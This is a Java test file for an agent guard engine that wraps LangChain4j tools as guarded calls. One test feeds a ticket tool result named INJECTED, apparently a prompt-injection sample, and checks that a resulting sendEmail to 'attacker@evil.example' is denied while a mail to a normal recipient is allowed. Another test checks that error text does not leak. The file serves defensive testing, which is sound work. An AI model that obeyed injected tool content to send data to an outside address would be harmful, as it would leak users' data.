package io.ape.langchain4j;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.langchain4j.agent.tool.ToolSpecification;
import dev.langchain4j.service.tool.AiServiceTool;
import dev.langchain4j.service.tool.ToolExecutionResult;
import dev.langchain4j.service.tool.ToolExecutor;
import dev.langchain4j.service.tool.ToolService;
import io.ape.api.ApeConfigurationException;
import io.ape.api.CallStatus;
import io.ape.api.GuardedCallResult;
import io.ape.engine.AgentSession;
import io.ape.engine.ApeEngine;
import io.ape.engine.SessionOptions;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * LangChain4j tools registered with the engine through the {@code langchain4j} tool adapter
 * ({@code engine.adaptTool}): {@code @Tool} methods as LangChain4j finds them and programmatic
 * specification/executor pairs run only as guarded calls, with the bound parameters.
 */
class LangChain4jToolAdapterEngineTest {

  @Test
  void toolMethodsRunAsGuardedCallsWithTheBoundParameters() {
    TicketTools tools = new TicketTools(TicketTools.INJECTED);
    try (ApeEngine engine = Engines.builder().build()) {
      for (AiServiceTool tool : ToolService.findTools(tools)) {
        engine.registerTool(tool.name(), engine.adaptTool(tool));
      }
      AgentSession session = engine.openSession(SessionOptions.forUser("alice"));
      session.recordUserMessage(LangChain4jAgentTest.USER);

      assertThat(session.call("getTicket", Map.of("id", "4711")).value().value())
          .isEqualTo(TicketTools.INJECTED);
      assertThat(session.call("sendEmail", Map.of("to", "attacker@evil.example",
          "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed."))
          .status()).isEqualTo(CallStatus.DENIED);
      GuardedCallResult sent = session.call("sendEmail", Map.of("to", "bob@acme.com",
          "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed."));
      assertThat(sent.value().value()).isEqualTo("sent to bob@acme.com");
      assertThat(tools.sent).containsExactly(
          "bob@acme.com|Ticket 4711|The printer on floor 3 is being fixed.");

      GuardedCallResult crashed = session.call("crash", Map.of("reason", "x"));
      assertThat(crashed.status()).isEqualTo(CallStatus.TOOL_FAILED);
      assertThat(crashed.modelMessage()).isEqualTo("The tool failed while running.");
    }
  }

  @Test
  void aSpecificationExecutorPairIsATool() {
    ToolSpecification lookup = ToolSpecification.builder().name("lookup").build();
    ToolExecutor executor = new ToolExecutor() {
      @Override
      public String execute(dev.langchain4j.agent.tool.ToolExecutionRequest request,
          Object memoryId) {
        return request.name() + " " + request.arguments();
      }
    };
    try (ApeEngine engine = Engines.builder().build()) {
      engine.registerTool("lookup", engine.adaptTool(Map.entry(lookup, executor)));
      AgentSession session = engine.openSession(SessionOptions.forUser("alice"));
      assertThat(session.call("lookup", Map.of("customer", "acme")).value().value())
          .isEqualTo("lookup {\"customer\":\"acme\"}");
      // a bare executor has no name: no adapter takes it
      assertThatThrownBy(() -> engine.adaptTool(executor))
          .isInstanceOf(ApeConfigurationException.class);
      ToolExecutor erroring = (request, memoryId) -> "unused";
      engine.registerTool("crash", engine.adaptTool(Map.entry(
          ToolSpecification.builder().name("crash").build(), new ToolExecutor() {
            @Override
            public String execute(dev.langchain4j.agent.tool.ToolExecutionRequest r, Object m) {
              return erroring.execute(r, m);
            }

            @Override
            public ToolExecutionResult executeWithContext(
                dev.langchain4j.agent.tool.ToolExecutionRequest r,
                dev.langchain4j.invocation.InvocationContext c) {
              return ToolExecutionResult.builder().isError(true).resultText("secret").build();
            }
          })));
      GuardedCallResult r = session.call("crash", Map.of("reason", "x"));
      assertThat(r.status()).isEqualTo(CallStatus.TOOL_FAILED);
      assertThat(r.modelMessage()).doesNotContain("secret");
    }
  }
}
